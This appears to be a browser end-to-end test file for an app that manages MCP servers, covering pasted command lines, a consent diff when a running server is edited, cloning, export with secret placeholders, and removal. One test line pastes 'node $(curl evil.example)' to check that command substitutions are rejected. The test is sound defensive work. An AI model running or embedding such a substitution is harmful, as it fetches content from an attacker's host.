// Adding by pasting a command line, editing a running server with the consent diff, cloning, exporting and removing,
// in real Chromium over browser mode against the real host and a real stdio server.
// Hostile input tried: a pasted line with a command substitution, a secret value that must never reach the page, and
// a clone onto a name that is taken.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterEach, describe, expect, it } from 'vitest';
import { openRig, type BrowserRig } from '../helpers/browser.js';
import { FIXTURES, NODE } from '../helpers/paths.js';

let rig: BrowserRig | undefined;
afterEach(async () => {
  await rig?.close();
  rig = undefined;
});

const PROBE = join(FIXTURES, 'probe-server.mjs');
const SECRET = 'sk-e2e-never-shown';
const addDialog = (page: Page) => page.getByRole('dialog', { name: 'Add a server' });
/** The members of the page's document the toast check uses (the Node tsconfig has no DOM types). */
interface PageDocument<E> {
  querySelector(selector: string): { style: { setProperty(name: string, value: string): void } } | null;
  elementFromPoint(x: number, y: number): E | null;
}
const consentDialog = (page: Page, name: string) => page.getByRole('dialog', { name: `Allow “${name}” to run on this computer?` });

describe('servers: paste, edit, clone, export, remove', () => {
  it('fills the add dialog from a pasted command line and keeps what was typed across tabs', async () => {
    rig = await openRig();
    const { page } = rig;
    await page.getByRole('button', { name: 'Add server' }).click();
    const dialog = addDialog(page);
    const paste = dialog.getByLabel('Paste a command line');

    await paste.fill('node $(curl evil.example)');
    await dialog.getByRole('button', { name: 'Fill in the fields below' }).click();
    await dialog.getByRole('alert').getByText('a command substitution ($(…))', { exact: false }).waitFor();

    await paste.fill(`API_KEY=${SECRET} ${NODE} '${PROBE}' --flag "two words"`);
    await paste.press('Enter');
    await dialog.getByRole('status').getByText('Check them below before adding', { exact: false }).waitFor();
    expect(await dialog.getByLabel('Command', { exact: true }).inputValue()).toBe(NODE);
    expect(await dialog.getByLabel('Arguments', { exact: true }).inputValue()).toBe(`${PROBE}\n--flag\ntwo words`);
    expect(await dialog.getByLabel('variable 1 name').inputValue()).toBe('API_KEY');
    await dialog.getByLabel('Name', { exact: true }).fill('probe');
    await rig.shot('server-edit-paste');

    // Another tab and back: nothing typed is lost.
    await dialog.getByRole('tab', { name: 'Remote (HTTP)' }).click();
    await dialog.getByLabel('URL').fill('https://mcp.example.com/mcp');
    await dialog.getByRole('tab', { name: 'Local command' }).click();
    expect(await dialog.getByLabel('Name', { exact: true }).inputValue()).toBe('probe');
    expect(await dialog.getByLabel('Arguments', { exact: true }).inputValue()).toBe(`${PROBE}\n--flag\ntwo words`);
    await dialog.getByRole('tab', { name: 'Remote (HTTP)' }).click();
    expect(await dialog.getByLabel('URL').inputValue()).toBe('https://mcp.example.com/mcp');
    await dialog.getByRole('tab', { name: 'Local command' }).click();

    await dialog.getByRole('button', { name: 'Add server' }).click();
    await dialog.waitFor({ state: 'detached' });
    await page.getByText('Added “probe”').first().waitFor();
    await page.getByText('It needs your approval before it first runs', { exact: false }).first().waitFor();
    await rig.shot('server-edit-added-toast');

    // A dialog opened while the toast is up is never covered by it: the toast stays under the modal's backdrop.
    // (By its class: while a modal is open everything outside it is hidden from the accessibility tree.)
    const shown = page.locator('.toast', { hasText: 'Added “probe”' });
    await page.getByRole('button', { name: 'Add server' }).click();
    await addDialog(page).waitFor();
    const box = await shown.boundingBox();
    expect(box).not.toBeNull();
    // A modal turns pointer events off outside itself, and hit-testing skips such elements: they are turned back on for
    // the toasts, so that what is hit is what is painted on top.
    const onTop = await page.evaluate(
      ({ x, y }) => {
        interface Hit {
          tagName: string;
          closest(selector: string): { className: string } | null;
        }
        const doc = (globalThis as unknown as { document: PageDocument<Hit> }).document;
        doc.querySelector('.toast-viewport')?.style.setProperty('pointer-events', 'auto');
        const hit = doc.elementFromPoint(x, y);
        return hit?.closest('.toast-viewport') ? 'the toast' : (hit?.closest('.modal-backdrop, .modal')?.className ?? hit?.tagName);
      },
      { x: box!.x + box!.width / 2, y: box!.y + box!.height / 2 },
    );
    expect(onTop).toBe('modal-backdrop');
    await page.keyboard.press('Escape');
    await addDialog(page).waitFor({ state: 'detached' });

    const [server] = rig.t.host.servers.list().filter((s) => s.name === 'probe');
    expect(server).toMatchObject({ command: NODE, args: [PROBE, '--flag', 'two words'], envNames: ['API_KEY'] });
    expect(rig.errors).toEqual([]);
  });

  it('edits a running server: the consent screen shows old → new, it restarts on approval; then clone, export, remove', async () => {
    rig = await openRig();
    const { page, t } = rig;
    const view = await t.host.servers.add({ name: 'probe', config: { transport: 'stdio', command: NODE, args: [PROBE], env: { API_KEY: SECRET } } });
    const request = await t.host.servers.consentRequest(view.id);
    const first = await t.host.servers.decideConsent(view.id, request.spec.hash, 'approve', 'user');
    expect(first.status).toBe('running');

    await page.goto(`${rig.web.url}#/servers/${view.id}/settings`);
    const launch = page.getByRole('form', { name: 'Launch' });
    await launch.getByLabel('Arguments').fill(`${PROBE}\n--edited`);
    await launch.getByRole('button', { name: 'Save launch' }).click();

    const consent = consentDialog(page, 'probe');
    await consent.waitFor();
    const table = consent.getByRole('table', { name: 'Changes, field by field' });
    const args = table.getByRole('row', { name: /Arguments/ });
    expect(await args.textContent()).toContain(`${PROBE} --edited`);
    expect(await table.getByRole('row', { name: /Variable API_KEY/ }).textContent()).toContain('unchanged');
    await consent.getByText('is running its earlier launch now', { exact: false }).waitFor();
    expect(await page.content()).not.toContain(SECRET);
    expect(t.host.servers.get(view.id)).toMatchObject({ status: 'running', pid: first.pid });
    await rig.shot('server-edit-consent-diff');

    await consent.getByRole('button', { name: 'Allow and restart' }).click();
    await consent.waitFor({ state: 'detached' });
    const deadline = Date.now() + 30_000;
    while (t.host.servers.get(view.id).pid === first.pid || t.host.servers.get(view.id).status !== 'running') {
      if (Date.now() > deadline) throw new Error('the server did not restart on the new launch');
      await new Promise((r) => setTimeout(r, 50));
    }
    await page.getByRole('status').getByText('keeps running its earlier launch until you allow the new one', { exact: false }).waitFor();

    // Clone: a taken name is refused in the dialog; a new one opens the copy, which needs its own approval.
    await page.getByRole('button', { name: 'Clone…' }).click();
    const clone = page.getByRole('dialog', { name: 'Clone “probe”' });
    await clone.getByLabel('Name of the copy').fill('PROBE');
    await clone.getByRole('button', { name: 'Clone' }).click();
    await clone.getByRole('alert').getByText('already exists', { exact: false }).waitFor();
    await clone.getByLabel('Name of the copy').fill('probe copy');
    await clone.getByRole('button', { name: 'Clone' }).click();
    await clone.waitFor({ state: 'detached' });
    await page.getByRole('heading', { name: /probe copy/ }).waitFor();
    const copy = t.host.servers.list().find((s) => s.name === 'probe copy');
    expect(copy).toMatchObject({ args: [PROBE, '--edited'], envNames: ['API_KEY'], status: 'stopped' });
    expect((await t.host.servers.consentRequest(copy!.id)).state).toBe('required');
    await rig.shot('server-edit-clone');

    // Export: a file with the secret as a placeholder, and the page says so.
    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export as mcp.json' }).click();
    const file = await (await downloading).path();
    const text = readFileSync(file, 'utf8');
    expect(JSON.parse(text)).toEqual({ mcpServers: { 'probe copy': { command: NODE, args: [PROBE, '--edited'], env: { API_KEY: '${env:API_KEY}' } } } });
    expect(text).not.toContain(SECRET);
    await page.getByText('Secrets are not in it: API_KEY is ${env:API_KEY}', { exact: false }).waitFor();
    await rig.shot('server-edit-export');

    // Remove asks first; Cancel keeps it, the confirm button removes it.
    await page.getByRole('button', { name: 'Remove “probe copy”…' }).click();
    const confirm = page.getByRole('dialog', { name: 'Remove “probe copy”?' });
    await rig.shot('server-edit-remove-confirm');
    await confirm.getByRole('button', { name: 'Cancel' }).click();
    await confirm.waitFor({ state: 'detached' });
    expect(t.host.servers.list().some((s) => s.name === 'probe copy')).toBe(true);
    await page.getByRole('button', { name: 'Remove “probe copy”…' }).click();
    await confirm.getByRole('button', { name: 'Remove server' }).click();
    await page.getByRole('heading', { name: 'Servers' }).waitFor();
    expect(t.host.servers.list().map((s) => s.name)).not.toContain('probe copy');
    expect(rig.errors).toEqual([]);
  });
});
